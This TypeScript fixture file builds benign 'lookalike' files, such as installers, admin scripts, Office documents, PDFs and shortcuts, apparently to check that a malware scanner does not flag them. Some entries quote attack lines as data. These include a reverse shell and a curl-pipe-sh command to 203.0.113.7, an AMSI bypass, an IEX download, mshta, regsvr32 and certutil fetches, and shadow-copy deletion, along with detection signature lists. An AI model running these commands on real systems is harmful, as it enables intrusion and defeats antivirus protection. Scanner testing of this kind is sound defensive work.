// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are variables of the shell
// Honest files that resemble attacks: installers, administration, libraries, documents that speak of attacks. All stay clean.
import { writeLnk } from './write-lnk.ts'
import { writeMsi } from './write-msi.ts'
import { excelBinary, excelWorkbook, field, paragraph, relations, wordBinary, wordDocument } from './write-office.ts'
import { writeOneNote } from './write-onenote.ts'
import { onePage, writePdf } from './write-pdf.ts'
import { richText } from './write-rich-text.ts'
import { writeZip } from './write-zip.ts'

export interface Lookalike {
  readonly name: string
  readonly bytes: Uint8Array
}

const file = (name: string, bytes: Uint8Array | string): Lookalike => ({
  name,
  bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes,
})

const shell: readonly Lookalike[] = [
  file(
    'rust-installer.sh',
    '#!/bin/sh\nset -u\nRUSTUP_UPDATE_ROOT="${RUSTUP_UPDATE_ROOT:-https://static.rust-lang.org/rustup}"\nmain() {\n  _url="${RUSTUP_UPDATE_ROOT}/dist/${_arch}/rustup-init"\n  _dir="$(mktemp -d)"\n  curl --proto "=https" --tlsv1.2 -sSf "$_url" -o "$_dir/rustup-init"\n  chmod u+x "$_dir/rustup-init"\n  "$_dir/rustup-init" "$@"\n}\nmain "$@"\n',
  ),
  file(
    'node-manager.sh',
    '#!/usr/bin/env bash\n# Install with: curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.0/install.sh | bash\nnvm_download() { curl --fail --compressed -q "$@"; }\nnvm_profile="$HOME/.bashrc"\necho "export NVM_DIR=~/.nvm" >> "$nvm_profile"\ngit clone https://github.com/nvm-sh/nvm.git "$NVM_DIR"\n',
  ),
  file(
    'bootstrap.sh',
    '#!/bin/bash\nset -euo pipefail\nsudo apt-get update && sudo apt-get install -y curl git\ncurl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -\ncurl -sSL https://install.python-poetry.org | python3 -\ncurl https://sh.rustup.rs -sSf | sh -s -- -y\n',
  ),
  file('docker-entry.sh', '#!/bin/sh\nset -e\nif [ "$1" = "serve" ]; then\n  exec gosu app "$@"\nfi\nexec "$@"\n'),
  file(
    'backup.sh',
    '#!/bin/sh\ntar czf /backup/home-$(date +%F).tgz /home\nfind /backup -mtime +30 -delete\nscp /backup/*.tgz backup@store.example.org:/srv/\n',
  ),
  file(
    'cron-setup.sh',
    '#!/bin/sh\ncp renew.sh /etc/cron.daily/renew\nchmod +x /etc/cron.daily/renew\nsystemctl enable --now renew.timer\n',
  ),
  file(
    'clean-image.sh',
    '#!/bin/sh\napt-get clean\nrm -rf /var/lib/apt/lists/* /tmp/* /var/tmp/*\ntruncate -s 0 /var/log/*.log\nrm -f /root/.bash_history\n',
  ),
  file(
    'harden.sh',
    '#!/bin/bash\nufw default deny incoming\nufw enable\nsed -i "s/^PermitRootLogin.*/PermitRootLogin no/" /etc/ssh/sshd_config\nsystemctl restart sshd\n',
  ),
  file(
    'configure',
    '#!/bin/sh\n# Guess values for system-dependent variables and create Makefiles.\nas_nl="\n"\neval `echo "ac_cv_x=yes"`\nfor as_dir in $PATH; do test -x "$as_dir/gcc" && break; done\nexec 5>config.log\necho done\n',
  ),
  file(
    'progress.sh',
    '#!/bin/sh\necho -e "percentage\\t10"\nsleep 1\necho -e "status\\tquery"\necho -e "package\\tavailable\\tlib2"\necho -e "percentage\\t100"\nexit 0\n',
  ),
  file(
    'run-tests.bat',
    'set SERVER=%1\r\nset RUNNER=%2\r\nset CASE=%3\r\nset OUT=%4\r\n%SERVER% --stop\r\necho "Adding %CASE% to %OUT%"\r\n%SERVER% --add "%CASE%" "%OUT%"\r\nstart /B "Server" %SERVER%\r\n%RUNNER% --case "%CASE%"\r\n%SERVER% --stop\r\n',
  ),
  file(
    'wait-for.sh',
    '#!/usr/bin/env bash\n# waits for a port\nwhile ! (echo > /dev/tcp/$1/$2) >/dev/null 2>&1; do sleep 1; done\nexec "${@:3}"\n',
  ),
  file(
    'make-disk.sh',
    '#!/bin/sh\ndd if=/dev/zero of=disk.img bs=1M count=512\nmkfs.ext4 disk.img\nmount -o loop disk.img /mnt\n',
  ),
  file(
    'attack-notes.sh',
    '#!/bin/sh\n# An attacker would run: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n# or: curl http://203.0.113.7/a | sh; history -c; vssadmin delete shadows\necho "See the comments"\n',
  ),
]

const powershell: readonly Lookalike[] = [
  file(
    'choco.ps1',
    "Set-ExecutionPolicy Bypass -Scope Process -Force; [Net.ServicePointManager]::SecurityProtocol = 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\nchoco install git -y\n",
  ),
  file(
    'scoop.ps1',
    'Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser\nInvoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression\n',
  ),
  file(
    'agent.ps1',
    '$url = "https://aka.ms/vs/17/release/vs_buildtools.exe"\n$out = Join-Path $env:TEMP "vs_buildtools.exe"\nInvoke-WebRequest -Uri $url -OutFile $out\nStart-Process -FilePath $out -ArgumentList "--quiet","--wait" -Wait\nRemove-Item $out\n',
  ),
  file(
    'inventory.ps1',
    'Get-WmiObject Win32_ComputerSystem | Select Manufacturer, Model\nGet-WmiObject Win32_Process | Sort WS | Select -First 10\nGet-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Export-Csv apps.csv\n',
  ),
  file(
    'users.ps1',
    'Import-Module ActiveDirectory\nImport-Csv users.csv | ForEach-Object { New-ADUser -Name $_.Name -SamAccountName $_.Sam -Enabled $true }\n',
  ),
  file(
    'module.psm1',
    'function Get-Thing {\n  [CmdletBinding()]\n  param([Parameter(Mandatory)][string]$Name)\n  $bytes = [System.Text.Encoding]::UTF8.GetBytes($Name)\n  [Convert]::ToBase64String($bytes)\n}\nExport-ModuleMember -Function Get-Thing\n',
  ),
  file(
    'decode.ps1',
    '$text = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("SGVsbG8sIHdvcmxkISBUaGlzIGlzIGEgbm90ZS4="))\nWrite-Host $text\n',
  ),
  file(
    'task.ps1',
    '$a = New-ScheduledTaskAction -Execute "powershell.exe" -Argument "-NoProfile -File C:\\Tools\\backup.ps1"\n$t = New-ScheduledTaskTrigger -Daily -At 3am\nRegister-ScheduledTask -TaskName Backup -Action $a -Trigger $t\n',
  ),
  file(
    'join.ps1',
    '$names = "a","b","c"\n$line = $names -join ", "\n$path = "{0}\\{1}" -f $env:USERPROFILE, "notes.txt"\nSet-Content -Path $path -Value ($line -replace "a","A")\n',
  ),
  file(
    'about.ps1',
    '<#\n Detects scripts that call [Ref].Assembly.GetType("System.Management.Automation.AmsiUtils").GetField("amsiInitFailed")\n or IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.7/x").\n#>\nWrite-Host "documentation only"\n',
  ),
  file(
    'update-defender.ps1',
    'Update-MpSignature\nStart-MpScan -ScanType QuickScan\nGet-MpComputerStatus | Select AntivirusEnabled\n',
  ),
  file(
    'net.ps1',
    '$c = Test-NetConnection example.org -Port 443\nif (-not $c.TcpTestSucceeded) { Write-Warning "down" }\n',
  ),
]

const windows: readonly Lookalike[] = [
  file(
    'build.bat',
    '@echo off\r\nsetlocal\r\nset ROOT=%~dp0\r\nset PATH=%ROOT%bin;%PATH%\r\nfor %%f in (*.c) do cl /nologo /c %%f\r\nif errorlevel 1 exit /b 1\r\necho done\r\n',
  ),
  file(
    'gradlew.bat',
    '@rem ## Gradle start up script for Windows\r\n@if "%DEBUG%"=="" @echo off\r\nset DIRNAME=%~dp0\r\nset APP_BASE_NAME=%~n0\r\nset DEFAULT_JVM_OPTS="-Xmx64m" "-Xms64m"\r\n"%JAVA_EXE%" %DEFAULT_JVM_OPTS% -classpath "%DIRNAME%\\gradle\\wrapper\\gradle-wrapper.jar" org.gradle.wrapper.GradleWrapperMain %*\r\n',
  ),
  file(
    'npm.cmd',
    ':: Created by npm, please do not edit manually.\r\n@ECHO OFF\r\nSETLOCAL\r\nSET "NODE_EXE=%~dp0\\node.exe"\r\nIF NOT EXIST "%NODE_EXE%" ( SET "NODE_EXE=node" )\r\n"%NODE_EXE%" "%~dp0\\node_modules\\npm\\bin\\npm-cli.js" %*\r\n',
  ),
  file(
    'strings.bat',
    '@echo off\r\nset v=%VERSION:~0,3%\r\nset d=%date:~6,4%%date:~3,2%%date:~0,2%\r\nset name=%name: =_%\r\necho %v% %d% %name%\r\n',
  ),
  file(
    'service.bat',
    '@echo off\r\nsc create MyService binPath= "C:\\Program Files\\My\\svc.exe" start= auto\r\nsc start MyService\r\nnetsh advfirewall firewall add rule name="My" dir=in action=allow program="C:\\Program Files\\My\\svc.exe"\r\n',
  ),
  file('restart.bat', 'net stop Spooler\r\ndel /q C:\\Windows\\System32\\spool\\PRINTERS\\*\r\nnet start Spooler\r\n'),
  file(
    'map-drives.vbs',
    'Set n = CreateObject("WScript.Network")\r\nn.MapNetworkDrive "H:", "\\\\server\\home"\r\nMsgBox "Drives are mapped"\r\n',
  ),
  file(
    'shortcut.vbs',
    'Set s = CreateObject("WScript.Shell")\r\nSet l = s.CreateShortcut(s.SpecialFolders("Desktop") & "\\App.lnk")\r\nl.TargetPath = "C:\\Program Files\\App\\app.exe"\r\nl.Save\r\n',
  ),
  file(
    'report.vbs',
    'Set f = CreateObject("Scripting.FileSystemObject")\r\nSet t = f.CreateTextFile("C:\\reports\\disk.txt", True)\r\nt.WriteLine "Free: " & f.GetDrive("C:").FreeSpace\r\nt.Close\r\n',
  ),
  file(
    'old-admin.js',
    'var fso = new ActiveXObject("Scripting.FileSystemObject");\r\nvar f = fso.GetFolder("C:\\\\logs");\r\nWScript.Echo(f.Size);\r\n',
  ),
  file(
    'settings.reg',
    'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Control Panel\\Desktop]\r\n"CursorBlinkRate"="530"\r\n',
  ),
  file(
    'driver.inf',
    '[Version]\r\nSignature="$WINDOWS NT$"\r\nClass=Printer\r\n[Manufacturer]\r\n%M%=M,NTamd64\r\n[DefaultInstall]\r\nCopyFiles=F\r\n',
  ),
]

const web: readonly Lookalike[] = [
  file(
    'jquery-like.min.js',
    `/*! lib v1 */!function(e,t){"use strict";"object"==typeof module&&"object"==typeof module.exports?module.exports=e.document?t(e,!0):t:t(e)}("undefined"!=typeof window?window:this,function(e,t){var n=[],r=e.document;function a(e){var t=r.createElement("script");t.text=e,r.head.appendChild(t).parentNode.removeChild(t)}return{globalEval:a,ajax:function(t){var n=new e.XMLHttpRequest;try{n=new e.ActiveXObject("Microsoft.XMLHTTP")}catch(e){}return n.open("GET",t),n}}});`,
  ),
  file(
    'packed.js',
    `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0 1(2){3 2+1}',4,4,'function|add|x|return'.split('|'),0,{}))`,
  ),
  file(
    'webpack.js',
    '(()=>{var e={12:(e,t,n)=>{"use strict";n.d(t,{Z:()=>r});const r="x"}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}n.d=(e,t)=>{for(var r in t)Object.defineProperty(e,r,{get:t[r]})};eval("console.log(1)")})();',
  ),
  file(
    'obfuscated-commercial.js',
    "var _0x4f2a=['log','hello','length','slice'];(function(_0x1a2b,_0x3c4d){var _0x5e6f=function(_0x7a8b){while(--_0x7a8b){_0x1a2b['push'](_0x1a2b['shift']());}};_0x5e6f(++_0x3c4d);}(_0x4f2a,0x1b3));var _0x2b1c=function(_0x9d8e,_0x7f6a){_0x9d8e=_0x9d8e-0x0;var _0x5b4c=_0x4f2a[_0x9d8e];return _0x5b4c;};console[_0x2b1c('0x0')](_0x2b1c('0x1'));",
  ),
  file(
    'build-tool.js',
    "const { execFileSync, spawn } = require('child_process')\nconst https = require('https')\nconst path = require('path')\nif (process.platform === 'win32') spawn('cmd.exe', ['/c', 'npm.cmd', 'run', 'build'], { stdio: 'inherit' })\nelse execFileSync('npm', ['run', 'build'])\nhttps.get('https://registry.npmjs.org/esbuild', (r) => r.resume())\n",
  ),
  file(
    'export-csv.js',
    "export function saveCsv(rows) {\n  const blob = new Blob([rows.join('\\n')], { type: 'text/csv' })\n  const a = document.createElement('a')\n  a.href = URL.createObjectURL(blob)\n  a.download = 'export.csv'\n  a.click()\n}\n",
  ),
  file(
    'base64-font.js',
    `export default "data:font/woff2;base64,${Buffer.alloc(900, 'wOF2abcdefg').toString('base64')}"\n`,
  ),
  file(
    'regexes.js',
    "export const patterns = [/powershell.*-enc/i, /cmd\\.exe \\/c/, /vssadmin delete shadows/, /certutil.*-urlcache/]\nexport const names = ['WScript.Shell', 'mshta', 'rundll32']\n",
  ),
  file(
    'page.html',
    '<!doctype html><html><head><title>Our company</title><link rel="canonical" href="https://www.example.org/"></head><body><h1>Welcome</h1><p>We make things.</p><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}</script></body></html>',
  ),
  file(
    'router-login.html',
    '<html><head><title>Router</title></head><body><form action="/login.cgi" method="post"><input name="user"><input type="password" name="pwd"><input type="submit"></form></body></html>',
  ),
  file(
    'saved-login.html',
    '<!-- saved from url=(0031)https://accounts.example.org/in --><html><head><title>Sign in</title><link rel="canonical" href="https://accounts.example.org/in"></head><body><form action="https://accounts.example.org/session" method="post"><input name="u"><input type="password" name="p"></form></body></html>',
  ),
  file(
    'article.html',
    '<html><head><title>How macro malware works</title></head><body><article><p>The document asks to click Enable Content. Then <code>powershell -w hidden -enc ...</code> runs, which calls <code>IEX (New-Object Net.WebClient).DownloadString</code>. Attackers also use mshta http://files.test/a.hta and regsvr32 /i:http://files.test/a.sct scrobj.dll.</p><p>Ransomware runs vssadmin delete shadows.</p></article></body></html>',
  ),
  file(
    'moved.html',
    '<html><head><meta http-equiv="refresh" content="0; url=https://docs.example.org/new/"></head><body>Moved to <a href="https://docs.example.org/new/">here</a></body></html>',
  ),
  file(
    'report.html',
    `<html><head><title>Coverage</title><style>body{font:12px sans}</style></head><body>${'<tr><td>file.ts</td><td>98%</td></tr>'.repeat(60)}<script>function toggle(i){document.getElementById(i).click()}</script><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="></body></html>`,
  ),
  file(
    'chart.svg',
    '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><rect width="10" height="40"/><text x="5" y="5">a</text></svg>',
  ),
  file(
    'interactive.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>function show(e){e.target.setAttribute("fill","red")}</script><rect width="10" height="10" onclick="show(evt)"/></svg>',
  ),
  file(
    'office-link.html',
    '<html><body><p>Edit: <a href="ms-word:ofe|u|https://example.sharepoint.com/a.docx">open in Word</a></p></body></html>',
  ),
]

const code: readonly Lookalike[] = [
  file(
    'winapi.py',
    'import ctypes\nfrom ctypes import wintypes\nRtlMoveMemory = ctypes.windll.kernel32.RtlMoveMemory\nRtlMoveMemory.argtypes = (ctypes.c_void_p, ctypes.c_void_p, ctypes.c_size_t)\nCreateFileMapping = ctypes.windll.kernel32.CreateFileMappingW\n\nclass MemoryMap:\n    def write(self, msg):\n        RtlMoveMemory(self.view + self.pos, msg, len(msg))\n',
  ),
  file(
    'callback.py',
    'import ctypes\nCALLBACK = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)\n@CALLBACK\ndef on_event(data):\n    return 0\nctypes.memmove(buffer, source, 16)\n',
  ),
  file(
    'client.py',
    'import requests\nimport subprocess\n\ndef version():\n    return subprocess.run(["git", "describe"], capture_output=True, text=True).stdout\n\nr = requests.get("https://api.example.org/v1")\nprint(r.json(), version())\n',
  ),
  file(
    'decode.py',
    'import base64, json, zlib\n\ndef load(blob):\n    return json.loads(zlib.decompress(base64.b64decode(blob)))\n',
  ),
  file(
    'setup.py',
    'from setuptools import setup\nexec(open("pkg/version.py").read())\nsetup(name="pkg", version=__version__)\n',
  ),
  file(
    'sockets.py',
    'import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 8000))\ns.listen(1)\nconn, _ = s.accept()\nconn.sendall(b"hi")\n',
  ),
  file(
    'scanner.py',
    'SIGNATURES = ["powershell -enc", "IEX(New-Object Net.WebClient).DownloadString", "vssadmin delete shadows", "bash -i >& /dev/tcp/"]\n\ndef scan(text):\n    return [s for s in SIGNATURES if s in text]\n',
  ),
  file(
    'template.php',
    '<?php\nrequire "vendor/autoload.php";\n$name = htmlspecialchars($_GET["name"] ?? "", ENT_QUOTES);\necho "<p>Hello " . $name . "</p>";\n$data = base64_decode($row["payload"]);\n',
  ),
  file(
    'wp.php',
    '<?php\nif (isset($_POST["submit"])) {\n  update_option("x", sanitize_text_field($_POST["x"]));\n}\nexec("git rev-parse HEAD", $out);\n',
  ),
  file(
    'page.jsp',
    '<%@ page contentType="text/html" %><% String q = request.getParameter("q"); out.print(escape(q)); %>',
  ),
  file(
    'notes.txt',
    'Notes on the incident: the macro ran powershell -enc and fetched http://203.0.113.7/a.exe with certutil -urlcache -f. The attacker then deleted shadow copies (vssadmin delete shadows /all).\n',
  ),
  file(
    'README.md',
    '# Installer\n\nRun `curl -sSf https://sh.rustup.rs | sh`.\n\nOn Windows: `iex ((New-Object System.Net.WebClient).DownloadString("https://community.chocolatey.org/install.ps1"))`\n',
  ),
]

const documents: readonly Lookalike[] = [
  file(
    'letter.docx',
    wordDocument(paragraph('Dear Sir or Madam,') + paragraph('please find our offer attached.'), {
      'word/_rels/document.xml.rels': relations([
        { type: 'hyperlink', target: 'https://www.example.org/', external: true },
      ]),
    }),
  ),
  file(
    'newsletter.docx',
    wordDocument(paragraph('News'), {
      'word/_rels/document.xml.rels': relations([
        { type: 'image', target: 'https://cdn.example.org/i.png', external: true },
      ]),
    }),
  ),
  file(
    'fields.docx',
    wordDocument(
      field(' PAGE ') +
        field(' TOC \\o "1-3" ') +
        field(' HYPERLINK "https://example.org" ') +
        field(' MERGEFIELD Name '),
    ),
  ),
  file('quotes.docx', wordDocument(field(' DDEAUTO Excel "C:\\\\data\\\\prices.xlsx" "Sheet1!R1C1" '))),
  file(
    'sharepoint.docx',
    wordDocument(paragraph('x'), {
      'word/_rels/settings.xml.rels': relations([
        { type: 'attachedTemplate', target: 'https://contoso.sharepoint.com/sites/t/template.dotx', external: true },
      ]),
    }),
  ),
  file(
    'local-template.docx',
    wordDocument(paragraph('x'), {
      'word/_rels/settings.xml.rels': relations([
        {
          type: 'attachedTemplate',
          target: 'file:///C:/Users/me/AppData/Roaming/Microsoft/Templates/Normal.dotm',
          external: true,
        },
      ]),
    }),
  ),
  file(
    'macro-guide.docx',
    wordDocument(
      paragraph(
        'To use the template, click Enable Content above. Macros that call Shell or powershell are dangerous; CreateObject("WScript.Shell") is discussed in chapter 3.',
      ),
    ),
  ),
  file(
    'embedded-sheet.docx',
    wordDocument(paragraph('x'), { 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': excelWorkbook({}) }),
  ),
  file('attached-pdf.docx', wordDocument(paragraph('x'), { 'word/embeddings/a.pdf': writePdf(onePage('A letter')) })),
  file(
    'finance.xlsm',
    excelWorkbook(
      {},
      {
        macros: [
          {
            name: 'Module1',
            source:
              'Sub Recalculate()\n Dim i\n For i = 1 To 100\n  Cells(i, 1).Value = Cells(i, 2).Value * 1.19\n Next\nEnd Sub',
          },
        ],
      },
    ),
  ),
  file(
    'open-event.xlsm',
    excelWorkbook(
      {},
      {
        macros: [
          {
            name: 'ThisWorkbook',
            source:
              'Private Sub Workbook_Open()\n Worksheets("Data").Activate\n Range("A1").Select\n ActiveWindow.Zoom = 100\nEnd Sub',
          },
        ],
      },
    ),
  ),
  file(
    'refresh.xlsm',
    excelWorkbook(
      {},
      {
        macros: [
          {
            name: 'Module1',
            source:
              'Sub Refresh()\n Dim h\n Set h = CreateObject("MSXML2.XMLHTTP")\n h.Open "GET", "https://api.example.org/rates", False\n h.send\n Range("A1").Value = h.responseText\nEnd Sub',
          },
        ],
      },
    ),
  ),
  file(
    'userform.docm',
    wordDocument(paragraph('x'), {}, [
      {
        name: 'ThisDocument',
        source:
          'Sub Document_New()\n Selection.TypeText Format(Date, "dd.mm.yyyy")\n ActiveDocument.Fields.Update\nEnd Sub',
      },
    ]),
  ),
  file(
    'formulas.xlsx',
    excelWorkbook({
      'xl/worksheets/sheet2.xml':
        '<worksheet><sheetData><row r="1"><c r="A1"><f>SUM(B1:B10)*IF(C1&gt;0,1,-1)</f></c><c r="B1"><f>"a"|"b"</f></c></row></sheetData></worksheet>',
    }),
  ),
  file(
    'query.xlsx',
    excelWorkbook({
      'xl/connections.xml':
        '<connections><connection id="1" name="q" type="5"><dbPr connection="Provider=SQLOLEDB;Data Source=sql01"/></connection></connections>',
    }),
  ),
  file(
    'linked.xlsx',
    excelWorkbook({
      'xl/externalLinks/_rels/externalLink1.xml.rels': relations([
        { type: 'externalLinkPath', target: 'file:///C:/data/b.xlsx', external: true },
      ]),
    }),
  ),
  file('letter.doc', wordBinary('Dear Sir, please find the offer attached. Kind regards')),
  file(
    'macro.doc',
    wordBinary('Template', [{ name: 'Module1', source: 'Sub InsertDate()\n Selection.TypeText Date\nEnd Sub' }]),
  ),
  file('sheet.xls', excelBinary({})),
  file(
    'consistent.docm',
    wordDocument('', {}, [
      {
        name: 'Module1',
        source: 'Sub A()\n MsgBox "Hello, this is fine"\nEnd Sub',
        compiledLiterals: ['Hello, this is fine'],
      },
    ]),
  ),
  file(
    'letter.rtf',
    richText('\\b Hello\\b0  World \\par {\\field{\\*\\fldinst HYPERLINK "https://example.org"}{\\fldrslt here}}'),
  ),
  file(
    'text.odt',
    writeZip({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'META-INF/manifest.xml': '<manifest/>',
      'content.xml':
        '<office:document-content><text:p>Hello <text:a xlink:href="https://example.org">x</text:a></text:p></office:document-content>',
    }),
  ),
  file('letter.pdf', writePdf(onePage('A normal letter with some text'))),
  file(
    'links.pdf',
    writePdf(
      onePage('See our web site for the manual and its many chapters, the price list and terms of delivery', {
        page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (https://www.example.org/manual) >> >>]',
      }),
    ),
  ),
  file(
    'form.pdf',
    writePdf([
      ...onePage('Application form', { catalog: '/AcroForm << /Fields [] >>' }),
      { dictionary: '<< /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, "", true\\);) >>' },
    ]),
  ),
  file(
    'print.pdf',
    writePdf([
      ...onePage('Ticket', { catalog: '/OpenAction 5 0 R' }),
      { dictionary: '<< /S /JavaScript /JS (this.print\\({bUI:true,bSilent:false,bShrinkToFit:true}\\);) >>' },
    ]),
  ),
  file(
    'attached.pdf',
    writePdf([
      ...onePage('Invoice'),
      { dictionary: '<< /Type /Filespec /F (invoice.xml) /EF << /F 6 0 R >> >>' },
      {
        dictionary: '<< /Type /EmbeddedFile >>',
        stream: '<?xml version="1.0"?><Invoice><Total>12</Total></Invoice>',
        flate: true,
      },
    ]),
  ),
  file(
    'spaces.pdf',
    writePdf([...onePage('x'), { dictionary: '<< /Font#20Name /Times#20New#20Roman /Sch#C3#B6n true >>' }]),
  ),
  file('goto.pdf', writePdf(onePage('Contents', { catalog: '/OpenAction [3 0 R /Fit]' }))),
  file(
    'malware-report.pdf',
    writePdf(
      onePage(
        'The sample calls powershell -enc and vssadmin delete shadows, then mshta http://files.test/a.hta. Chapter 2 describes /JavaScript and /Launch actions',
      ),
    ),
  ),
  file(
    'app.lnk',
    writeLnk({
      target: 'C:\\Program Files\\App\\app.exe',
      icon: 'C:\\Program Files\\App\\app.exe',
      description: 'App',
    }),
  ),
  file('document.lnk', writeLnk({ target: 'C:\\Users\\me\\Documents\\letter.docx' })),
  file('console.lnk', writeLnk({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: '/k "C:\\dev\\env.bat"' })),
  file(
    'powershell.lnk',
    writeLnk({
      target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      arguments: '-NoExit -Command "cd C:\\dev"',
    }),
  ),
  file(
    'control.lnk',
    writeLnk({ target: 'C:\\Windows\\System32\\rundll32.exe', arguments: 'shell32.dll,Control_RunDLL desk.cpl' }),
  ),
  file(
    'browser.lnk',
    writeLnk({
      target: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      arguments: '--profile-directory="Default" https://intranet.example.org/',
    }),
  ),
  file('share.lnk', writeLnk({ target: '\\\\fileserver\\team\\plan.xlsx' })),
  file(
    'tool.msi',
    writeMsi({
      actions: [
        { action: 'SetDir', type: 51, source: 'INSTALLDIR', target: '[ProgramFilesFolder]Tool' },
        { action: 'Service', type: 34, source: 'INSTALLDIR', target: '"[INSTALLDIR]tool.exe" --register' },
      ],
    }),
  ),
  file(
    'meeting.ics',
    'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Team\r\nURL:https://meet.example.org/1\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n',
  ),
  file('site.url', '[InternetShortcut]\r\nURL=https://www.example.org/\r\nIconIndex=0\r\n'),
  file('file.url', '[InternetShortcut]\r\nURL=file:///C:/Users/me/a.pdf\r\n'),
  file(
    'services.msc',
    '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><StringTables><Strings><String ID="1" Refs="1">Services</String><String ID="2" Refs="1">https://learn.microsoft.com/windows-server</String></Strings></StringTables></MMC_ConsoleFile>',
  ),
  file(
    'help-topic.htm',
    '<html><body><OBJECT classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11"><PARAM name="Command" value="Related Topics, MENU"><PARAM name="Item1" value="Printing;print.htm"></OBJECT></body></html>',
  ),
  file(
    'help-opens-tool.htm',
    '<html><body><OBJECT classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11"><PARAM name="Command" value="ShortCut"><PARAM name="Item1" value=",control.exe,printers"></OBJECT></body></html>',
  ),
  file('office.rdp', 'full address:s:ts01.corp.local\r\nredirectprinters:i:1\r\naudiomode:i:0\r\n'),
  file('notes.one', writeOneNote([{ name: 'plan.pdf', bytes: writePdf(onePage('Plan')) }], 'Meeting notes')),
  file('steam.desktop', '[Desktop Entry]\nType=Application\nName=Editor\nExec=/usr/bin/editor %F\nIcon=editor\n'),
]

export const lookalikes: readonly Lookalike[] = [...shell, ...powershell, ...windows, ...web, ...code, ...documents]
